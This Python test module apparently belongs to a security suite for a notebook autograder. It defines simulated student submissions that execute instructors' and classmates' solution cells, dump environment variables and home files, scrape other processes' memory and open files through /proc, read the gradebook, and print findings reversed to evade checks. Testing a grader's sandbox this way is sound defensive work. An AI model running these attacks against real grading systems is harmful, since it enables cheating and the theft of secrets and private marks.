"""Reading tests, solutions, classmates, and the environment."""

from tests.attacks.catalogue import GAINS, HARMS, attack


@attack("Take the answers from the instructor's notebook.", plain=GAINS)
def runs_the_solution(sub):
    sub.answer(
        "double",
        """
        import json, pathlib

        for _path in ("$COURSE/source/walls/walls.ipynb", "../../../source/walls/walls.ipynb"):
            try:
                for _cell in json.loads(pathlib.Path(_path).read_text())["cells"]:
                    if _cell["metadata"].get("nbgrader", {}).get("solution"):
                        exec("".join(_cell["source"]), globals())
                _solved = {_name: globals()[_name] for _name in ("ranked", "total", "halved")}
            except (OSError, SyntaxError):
                pass
    """,
    )
    for name in ("ranked", "total", "halved"):
        sub.answer(name, f"{name} = globals().get('_solved', {{}}).get('{name}')")


@attack("Take the answers from a classmate, in submitted/ or autograded/.", plain=GAINS)
def runs_a_classmate_s_answers(sub):
    sub.answer(
        "double",
        """
        import glob, json

        for _path in (glob.glob("$COURSE/*/*honest*/walls/*.ipynb")
                      + glob.glob("../../*honest*/*/*.ipynb")):
            for _cell in json.load(open(_path))["cells"]:
                if _cell["metadata"].get("nbgrader", {}).get("solution"):
                    try:
                        exec("".join(_cell["source"]), globals())
                    except SyntaxError:
                        pass
        _copied = {name: globals().get(name) for name in ("ranked", "total", "halved", "settings")}
    """,
    )
    for name in ("ranked", "total", "halved", "settings"):
        sub.answer(name, f"{name} = globals().get('_copied', {{}}).get('{name}')")


_LOOK = """
    import glob, os
    found = []

    def look(*patterns):
        for pattern in patterns:
            for path in glob.glob(pattern, recursive=True, include_hidden=True):
                try:
                    with open(path, "rb") as file:
                        found.append(file.read(400_000).decode(errors="replace"))
                except OSError:
                    pass

    def tell():
        for text in found:
            for word in WORDS:
                at = text.find(word)
                if at >= 0:
                    print("$MARK", text[at:at + 60][::-1])
"""


@attack("Print the hidden tests and the solution, found in files, backwards.", plain=HARMS,
        alone=False)  # fmt: skip
def prints_files_of_the_instructor(sub):
    sub.last_cell(
        _LOOK
        + """
    WORDS = ["merlin" + "_hidden", "kestrel" + "_solution"]
    look("$COURSE/source/**", "$COURSE/autograded/**", "./**", "../**/*.ipynb")
    look("/proc/*/cwd/*.ipynb", "/proc/*/cwd/source/*/*.ipynb")
    look("/proc/*/root" "/$COURSE/source/*/*")
    tell()
    """
    )


@attack("Print what a classmate wrote, backwards.", plain=HARMS, alone=False)
def prints_a_classmate_s_notebook(sub):
    sub.last_cell("""
        import glob
        for path in glob.glob("$COURSE/*/*-honest/walls/*.ipynb") + glob.glob("../../*-honest/*/*"):
            try:
                print("$MARK", open(path).read()[-700:][::-1])
            except OSError:
                pass
    """)


@attack("Print secrets of the instructor's environment and home.", plain=HARMS, alone=False)
def prints_secrets_of_the_instructor(sub):
    sub.last_cell("""
        import glob, os
        print("$MARK", str(dict(os.environ))[::-1])
        own = os.path.expanduser("~")
        for pattern in ("$HOME/*", own + "/*", "$TMP_SECRET", "/tmp/atk*",
                        "$COURSE/.autograder_secret"):
            for path in glob.glob(pattern):
                try:
                    print("$MARK", open(path).read(4000)[::-1])
                except (OSError, UnicodeDecodeError):
                    pass
    """)


@attack("Read environment, memory and open files of the grader through /proc.", plain=HARMS,
        alone=False)  # fmt: skip
def proc_of_the_grader(sub):
    sub.last_cell("""
$GUARD
import os, re

for pid in _others():
    for name in ("environ", "cmdline"):
        try:
            text = open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace")
            print("$MARK", re.sub("[^ -~]", " ", text)[::-1])
        except OSError:
            pass
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            path = os.readlink(f"/proc/{pid}/fd/{number}")
            if path.endswith((".db", ".ipynb")):
                print("$MARK", "grader's file", open(f"/proc/{pid}/fd/{number}", "rb").read()[:9])
    except OSError:
        pass
    try:
        memory = open(f"/proc/{pid}/mem", "rb")
        spaces = [line.split() for line in open(f"/proc/{pid}/maps") if "[heap]" in line]
        for space in spaces:
            start, end = (int(part, 16) for part in space[0].split("-"))
            memory.seek(start)
            data = memory.read(min(end - start, 60_000_000))
            for match in re.finditer(rb"kestrel_[s]olution|merlin_[h]idden", data):
                print("$MARK", match[0].decode()[::-1])
                break
    except (OSError, ValueError, OverflowError):
        pass
    """)


@attack("Read everybody's marks in the gradebook.", plain=HARMS, alone=False,
        harm=lambda run, student: [
            "it can read a classmate's marks" for _ in [0]
            if f"{run.mark(student)}-marks-of aa-honest" in run.outputs(student)
        ])  # fmt: skip
def reads_the_gradebook(sub):
    sub.last_cell("""
        import sqlite3
        for path in ("$COURSE/gradebook.db", "../../../gradebook.db"):
            try:
                book = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
                for (name,) in book.execute("select id from student"):
                    print("$MARK-marks-of", name)
            except sqlite3.Error:
                pass
    """)


@attack("Draw the inputs of the hidden tests oneself, with the course's secret if it can be read.",
        plain=GAINS, honest={"test_double": 1.0})  # fmt: skip
def draws_the_hidden_inputs(sub):
    sub.answer(
        "double",
        """
        from autograder import checks

        # What a student can draw: the same exercise, without and with the course's secret.
        _known = {5: 10}
        try:
            for _seed in (None, *open("$COURSE/.autograder_secret", "rb")):
                _drawn = int(checks.Exercise("double", points=3).rng.integers(10_000, 100_000))
                _known[_drawn] = 2 * _drawn
        except OSError:
            _drawn = int(checks.Exercise("double", points=3).rng.integers(10_000, 100_000))
            _known[_drawn] = 2 * _drawn

        def double(number):
            return _known.get(number, 0)
    """,
    )
